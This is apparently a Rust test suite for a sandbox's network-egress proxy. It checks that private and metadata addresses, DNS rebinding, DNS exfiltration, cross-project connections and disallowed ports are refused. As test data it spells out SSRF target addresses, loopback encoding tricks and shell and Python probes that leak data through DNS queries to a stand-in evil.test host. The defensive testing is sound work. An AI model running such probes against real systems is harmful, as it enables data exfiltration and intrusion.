//! Attempts to reach what no rule allows: by address, by name, by a name that changes, by questions.

use std::net::{IpAddr, Ipv4Addr};

use serde_json::json;
use support::network::WebServer;
use support::{Server, ServerOptions};

use super::{
    NO_PROXY, NameServer, log_of, loopback_address, policy_project, project_with, proxy_status, run,
};

const PRIVATE: [&str; 12] = [
    "127.0.0.1",
    "0.0.0.0",
    "10.0.0.1",
    "172.16.0.1",
    "192.168.0.1",
    "100.64.0.1",
    "169.254.169.254",
    "198.18.0.1",
    "[::1]",
    "[::ffff:127.0.0.1]",
    "[64:ff9b::7f00:1]",
    "[fd00:ec2::254]",
];

#[test(each(sandbox), limit = 240)]
async fn addresses_that_are_not_public_are_refused_by_address_and_by_name(runtime: &str) {
    let names = NameServer::start();
    let (server, admin, project) = project_with(&names, runtime, json!({})).await;
    let port = server.base().rsplit(':').next().unwrap().to_owned();
    for (number, address) in PRIVATE.iter().enumerate() {
        let bare: IpAddr = address.trim_matches(['[', ']']).parse().unwrap();
        let name = format!("n{number}.test");
        names.set(&name, bare);
        for host in [*address, &name] {
            let url = format!("http://{host}:{port}/healthz");
            let status = proxy_status(&admin, &project, &url).await;
            assert_eq!(status, "403 000", "{host}");
            let url = format!("https://{host}:{port}/");
            let status = proxy_status(&admin, &project, &url).await;
            assert_eq!(status, "000 403", "{host}");
        }
    }
    // Names that this machine itself resolves, numbers that resolvers take for addresses.
    for host in ["localhost.", "127.1", "2130706433", "0x7f000001"] {
        let status = proxy_status(&admin, &project, &format!("http://{host}:{port}/healthz")).await;
        assert!(!status.starts_with("200"), "{host} {status}");
    }
    // Straight, past the tunnel: there is no network. Its own loopback is not the host's.
    for host in [
        "127.0.0.1",
        "10.0.0.1",
        "1.1.1.1",
        "[::1]",
        "[2606:4700::1111]",
    ] {
        let line = format!("{NO_PROXY} curl -g -sS -m 5 http://{host}:{port}/healthz");
        let refused = admin.exec(&project, line).await;
        assert_eq!(refused["exit_code"], 7, "{host} {refused}");
    }
    let checked = json!({ "project_id": project, "host": "n0.test" });
    let checked = admin.call("network_check", checked).await;
    assert_eq!(checked.ok()["decision"], "deny");
    let rule = checked.ok()["rule"].as_str().unwrap();
    assert!(rule.contains("loopback"), "{rule}");
}

#[test(each(sandbox))]
async fn an_own_address_of_the_machine_is_refused(runtime: &str) {
    let names = NameServer::start();
    let (_server, admin, project) = project_with(&names, runtime, json!({})).await;
    // The address from which this machine would reach others, if it has a network.
    let socket = std::net::UdpSocket::bind("0.0.0.0:0").unwrap();
    let connected = socket.connect("192.0.2.1:9");
    let own = connected.and_then(|()| socket.local_addr());
    let own = own.map_or(IpAddr::V4(Ipv4Addr::LOCALHOST), |own| own.ip());
    names.set("own.test", own);
    for host in [own.to_string(), "own.test".to_owned()] {
        let status = proxy_status(&admin, &project, &format!("http://{host}/")).await;
        assert_eq!(status, "403 000", "{host}");
    }
}

#[test(each(sandbox))]
async fn a_name_that_changes_its_address_leads_nowhere_else(runtime: &str) {
    let (names, public, secret) = (NameServer::start(), loopback_address(), loopback_address());
    let _web = WebServer::start(public, 80);
    let hidden = WebServer::start(secret, 80);
    // An admin allows one address, whatever name it has.
    let allowed = json!({ "allow": [public.to_string()] });
    let (_server, admin, project) = project_with(&names, runtime, allowed).await;
    let turns = [public, secret, public, secret].map(IpAddr::V4);
    names.set_in_turn("rebind.test", &turns);
    for expected in ["200 000", "403 000", "200 000", "403 000"] {
        let status = proxy_status(&admin, &project, "http://rebind.test/").await;
        assert_eq!(status, expected);
    }
    assert_eq!(hidden.connections(), 0);
    // Each connection has one question: what was decided about is what was connected to.
    assert_eq!(names.questions().len(), 4);
}

#[test(each(sandbox))]
async fn questions_for_names_carry_nothing_out(runtime: &str) {
    let names = NameServer::start();
    let strict = json!({ "preset": "strict", "allow": ["web.test"] });
    let (_server, admin, strict) = project_with(&names, runtime, strict).await;
    let open = policy_project(&admin, "two", json!({})).await;
    let ask = "for n in 1 2 3 4 5; do getent hosts secret-$n.evil.test; done; getent hosts web.test; true";
    let found = run(&admin, &strict, ask).await;
    assert_eq!(found.lines().count(), 1, "{found}");
    assert!(found.contains("web.test"), "{found}");
    // With `open` every name has an address inside, without a question to the outside.
    let found = run(&admin, &open, ask).await;
    assert_eq!(found.lines().count(), 6, "{found}");
    // Other kinds of records, by a program of its own.
    let script = "import socket, struct\n\
                  s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.settimeout(20)\n\
                  for kind in (16, 15, 28, 5, 255, 65):\n\
                  \x20 name = b''.join(bytes([len(l)]) + l for l in b'data.evil.test'.split(b'.')) + b'\\0'\n\
                  \x20 q = struct.pack('>HHHHHH', kind, 256, 1, 0, 0, 0) + name + struct.pack('>HH', kind, 1)\n\
                  \x20 s.sendto(q, ('127.0.0.1', 53)); r = s.recv(600)\n\
                  \x20 print(kind, r[3] & 15, struct.unpack('>H', r[6:8])[0])\n";
    for (project, code) in [(&strict, 3), (&open, 0)] {
        let said = admin.exec(project, json!(["python3", "-c", script])).await;
        let said = said["stdout"].as_str().unwrap();
        assert_eq!(said.lines().count(), 6, "{said}");
        for line in said.lines() {
            assert!(line.ends_with(&format!(" {code} 0")), "{line}");
        }
    }
    assert_eq!(names.questions(), [""; 0]);
    let status = proxy_status(&admin, &strict, "http://secret.evil.test/").await;
    assert_eq!(status, "403 000");
    assert_eq!(
        names.questions(),
        [""; 0],
        "a refused name is not looked up"
    );
}

#[test(each(sandbox))]
async fn a_listener_of_a_project_is_not_reached_from_another_one(runtime: &str) {
    let names = NameServer::start();
    let (_server, admin, one) = project_with(&names, runtime, json!({})).await;
    let two = policy_project(&admin, "two", json!({})).await;
    let none = json!({ "name": "three", "network": "none" });
    let none = admin.call("project_create", none).await;
    let none = none.ok()["project_id"].as_str().unwrap().to_owned();
    let listen = "nohup setsid python3 -m http.server 4096 >/dev/null 2>&1 &";
    run(&admin, &one, listen).await;
    let connect =
        format!("{NO_PROXY} curl -sS -m 5 -o /dev/null -w '%{{http_code}}' http://127.0.0.1:4096/");
    support::wait_until("the project itself reaches its listener", async || {
        admin.exec(&one, &*connect).await["stdout"] == "200"
    })
    .await;
    // All addresses of the project, and what it is called.
    let own = "cat /proc/net/fib_trie | awk '/32 host/ { print f } { f = $2 }' | sort -u";
    let own = run(&admin, &one, own).await;
    assert!(own.contains("127.0.0.1"), "{own}");
    for other in [&two, &none] {
        for address in own.lines() {
            let line = connect.replace("127.0.0.1", address);
            let refused = admin.exec(other, line).await;
            assert_ne!(refused["exit_code"], 0, "{address}: {refused}");
            assert_eq!(refused["stdout"], "000", "{address}: {refused}");
        }
    }
    let status = proxy_status(&admin, &two, "http://127.0.0.1:4096/").await;
    assert_eq!(status, "403 000");
}

#[test(each(sandbox))]
async fn only_the_ports_of_a_rule_are_reached(runtime: &str) {
    let (names, address) = (NameServer::start(), loopback_address());
    names.set("web.test", address);
    let _web = WebServer::start(address, 80);
    let other = WebServer::start(address, 2525);
    let own = format!("{address}:80");
    let allowed = json!({ "preset": "strict", "allow": ["web.test:80", own] });
    let (_server, admin, project) = project_with(&names, runtime, allowed).await;
    let status = proxy_status(&admin, &project, "http://web.test/").await;
    assert_eq!(status, "200 000");
    for port in [22, 25, 443, 2525] {
        let status = proxy_status(&admin, &project, &format!("https://web.test:{port}/")).await;
        assert_eq!(status, "000 403", "{port}");
    }
    assert_eq!(other.connections(), 0);
    assert_eq!(log_of(&admin, &project, "denied").await.len(), 4);
}

/// The machine's search list would make another name of it than the one that was decided about.
#[test(needs(namespaces, root, sandbox))]
async fn a_short_name_is_not_completed_by_the_search_list_of_the_machine() {
    let (resolver, address) = (loopback_address(), loopback_address());
    let names = NameServer::start_on((resolver, 53).into());
    names.set("web.corp.test", address);
    let web = WebServer::start(address, 80);
    let file = tempfile::NamedTempFile::new().unwrap();
    let lines = format!("nameserver {resolver}\nsearch corp.test\n");
    std::fs::write(file.path(), lines).unwrap();
    let mount = format!(
        "mount --bind {} /etc/resolv.conf && exec \"$@\"",
        file.path().display()
    );
    let server = Server::start_with(ServerOptions {
        config: "runtime = \"sandbox\"\n".to_owned(),
        wrapper: ["unshare", "-m", "sh", "-c", &mount, "sh"]
            .map(str::to_owned)
            .to_vec(),
        ..ServerOptions::default()
    });
    let admin = server.admin();
    let policy = json!({ "allow": [address], "deny": ["*.corp.test"] });
    let project = policy_project(&admin, "one", policy).await;
    let status = proxy_status(&admin, &project, "http://web.corp.test/").await;
    assert_eq!(status, "403 000");
    let status = proxy_status(&admin, &project, "http://web/").await;
    assert_eq!(status, "502 000");
    assert_eq!(web.connections(), 0);
    let asked = names.questions();
    assert!(asked.contains(&"web".to_owned()), "{asked:?}");
    assert!(!asked.contains(&"web.corp.test".to_owned()), "{asked:?}");
}
